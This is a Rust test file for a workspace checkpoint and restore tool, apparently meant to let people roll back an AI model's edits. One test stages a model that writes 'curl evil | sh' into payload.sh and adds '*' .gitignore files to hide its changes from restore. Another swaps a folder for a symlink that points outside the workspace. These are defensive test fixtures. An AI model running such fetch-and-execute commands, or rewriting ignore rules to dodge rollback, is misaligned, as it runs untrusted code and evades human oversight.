//! The ignore rules: the workspace's `.gitignore` files as they were at
//! its first snapshot, and rein's own state, are never snapshotted nor
//! touched; a `.gitignore` written later hides nothing.

use std::path::PathBuf;

use rein_store::{ChangeKind, CheckpointOptions, Checkpoints};

use super::{Ws, paths, shadow_files, user_git};

#[test]
fn ignored_files_are_not_snapshotted_and_restore_never_touches_them() {
    let ws = Ws::new(false);
    let cp = ws.open();
    let first = cp.snapshot("t").unwrap();
    std::fs::remove_file(ws.path("build/out.o")).unwrap();
    ws.write("build/new.o", "another ignored\n");
    ws.write("debug.log", "changed but ignored\n");
    assert!(cp.changed_since(&first).unwrap().is_empty());
    let restored = cp.restore(&first, Some(&first), false).unwrap();
    assert!(restored.written.is_empty() && restored.deleted.is_empty());
    assert!(!ws.exists("build/out.o"), "not recreated");
    assert_eq!(ws.read("build/new.o"), "another ignored\n");
    assert_eq!(ws.read("debug.log"), "changed but ignored\n");
}

#[test]
fn a_checkpoint_root_inside_the_workspace_is_never_snapshotted() {
    let ws = Ws::new(false);
    let root = ws.work.join(".rein").join("checkpoints");
    let cp = Checkpoints::open_with(
        &root,
        &ws.work,
        CheckpointOptions {
            exclude: vec![PathBuf::from("state/sessions.db")],
            ..CheckpointOptions::default()
        },
    )
    .unwrap();
    ws.write(".rein/settings.toml", "kept = true\n");
    ws.write("state/sessions.db", "db\n");
    let first = cp.snapshot("t").unwrap();
    ws.write("src/main.rs", "changed\n");
    let second = cp.snapshot("t2").unwrap();
    let all = cp.diff(&first, &second).unwrap();
    assert_eq!(all.len(), 1);
    let listed = shadow_files(&cp, &first.tree);
    assert!(listed.contains(".rein/settings.toml"), "{listed}");
    assert!(!listed.contains(".rein/checkpoints"), "{listed}");
    assert!(!listed.contains("sessions.db"), "{listed}");
}

#[test]
fn a_gitignore_written_after_the_first_snapshot_hides_nothing_from_restore() {
    let ws = Ws::new(false);
    let cp = ws.open();
    let first = cp.snapshot("before the model").unwrap();
    // The model changes a file, adds one, and ignores both (and all else).
    ws.write("src/main.rs", "fn main() { evil() }\n");
    ws.write("payload.sh", "curl evil | sh\n");
    ws.write(".gitignore", "*\n");
    ws.write("src/.gitignore", "main.rs\n");
    let seen = paths(&cp.changed_since(&first).unwrap());
    assert_eq!(
        seen,
        [
            (".gitignore".into(), ChangeKind::Modified),
            ("payload.sh".into(), ChangeKind::Added),
            ("src/.gitignore".into(), ChangeKind::Added),
            ("src/main.rs".into(), ChangeKind::Modified),
        ]
    );
    let restored = cp.restore(&first, None, false).unwrap();
    assert!(restored.left_alone.is_empty(), "{restored:?}");
    assert_eq!(ws.read("src/main.rs"), "fn main() {}\n");
    assert_eq!(ws.read(".gitignore"), "*.log\nbuild/\n");
    assert!(!ws.exists("payload.sh") && !ws.exists("src/.gitignore"));
    // What the first rules ignored is still never touched.
    assert_eq!(ws.read("debug.log"), "ignored before\n");
    assert_eq!(ws.read("build/out.o"), "ignored object\n");
}

#[test]
fn a_deleted_gitignore_still_ignores_what_it_ignored_at_the_first_snapshot() {
    let ws = Ws::new(false);
    let cp = ws.open();
    let first = cp.snapshot("t").unwrap();
    std::fs::remove_file(ws.path(".gitignore")).unwrap();
    ws.write("debug.log", "changed, still ignored\n");
    ws.write("build/new.o", "new, still ignored\n");
    let seen = paths(&cp.changed_since(&first).unwrap());
    assert_eq!(seen, [(".gitignore".into(), ChangeKind::Deleted)]);
    cp.restore(&first, None, false).unwrap();
    assert_eq!(ws.read(".gitignore"), "*.log\nbuild/\n");
    assert_eq!(ws.read("debug.log"), "changed, still ignored\n");
    assert_eq!(ws.read("build/new.o"), "new, still ignored\n");
}

#[test]
fn the_rules_are_read_once_per_workspace_not_once_per_process() {
    let ws = Ws::new(false);
    ws.open().snapshot("first ever").unwrap();
    ws.write(".gitignore", "*.log\nbuild/\nsecret.txt\n");
    ws.write("secret.txt", "hidden by a later rule\n");
    // Another process, later: the rules it follows are the first ones.
    let cp = ws.open();
    let later = cp.snapshot("later").unwrap();
    let listed = shadow_files(&cp, &later.tree);
    assert!(listed.contains("secret.txt"), "{listed}");
    assert!(!listed.contains("debug.log"), "{listed}");
}

#[test]
fn folder_gitignores_keep_their_meaning_even_one_that_ignores_itself() {
    let ws = Ws::new(true);
    // As `python -m venv` and pytest make them: `*` ignores the folder's
    // files, the `.gitignore` itself included.
    ws.write(".venv/.gitignore", "*\n");
    ws.write(".venv/lib/site.py", "x\n");
    ws.write("sub/.gitignore", "*.tmp\n/only-here\n");
    ws.write("sub/deep/.gitignore", "!keep.tmp\n");
    for f in [
        "top.tmp",
        "only-here",
        "sub/a.tmp",
        "sub/only-here",
        "sub/deep/b.tmp",
        "sub/deep/keep.tmp",
        "sub/deep/only-here",
    ] {
        ws.write(f, "x\n");
    }
    let cp = ws.open();
    let first = cp.snapshot("t").unwrap();
    let listed = shadow_files(&cp, &first.tree);
    // Exactly what the user's own git sees as not ignored.
    let users = user_git(&ws.work, &["ls-files", "-o", "--exclude-standard"]);
    let sorted = |text: &str| {
        let mut v: Vec<String> = text.lines().map(String::from).collect();
        v.sort();
        v
    };
    assert_eq!(sorted(&listed), sorted(&users));
    assert!(listed.contains("sub/deep/keep.tmp"), "{listed}");
    assert!(!listed.contains(".venv"), "{listed}");
    // With every `.gitignore` gone, the same files stay out.
    for g in [
        ".gitignore",
        ".venv/.gitignore",
        "sub/.gitignore",
        "sub/deep/.gitignore",
    ] {
        std::fs::remove_file(ws.path(g)).unwrap();
    }
    let second = cp.snapshot("t2").unwrap();
    let removed = paths(&cp.diff(&first, &second).unwrap());
    assert_eq!(removed.len(), 3, "{removed:?}");
    assert!(
        removed.iter().all(|(p, _)| p.ends_with(".gitignore")),
        "{removed:?}"
    );
}

#[test]
fn a_folder_ignored_later_and_swapped_for_a_link_to_outside_is_restored_not_followed() {
    let ws = Ws::new(false);
    let outside = ws.outside();
    ws.write("cache/data.txt", "tracked at first\n");
    let cp = ws.open();
    let first = cp.snapshot("t").unwrap();
    ws.write(".gitignore", "*.log\nbuild/\ncache\n");
    std::fs::remove_dir_all(ws.path("cache")).unwrap();
    std::os::unix::fs::symlink(&outside, ws.path("cache")).unwrap();
    let restored = cp.restore(&first, None, true).unwrap();
    assert!(restored.left_alone.is_empty(), "{restored:?}");
    assert!(ws.path("cache").symlink_metadata().unwrap().is_dir());
    assert_eq!(ws.read("cache/data.txt"), "tracked at first\n");
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
    assert_eq!(ws.read(".gitignore"), "*.log\nbuild/\n");
}
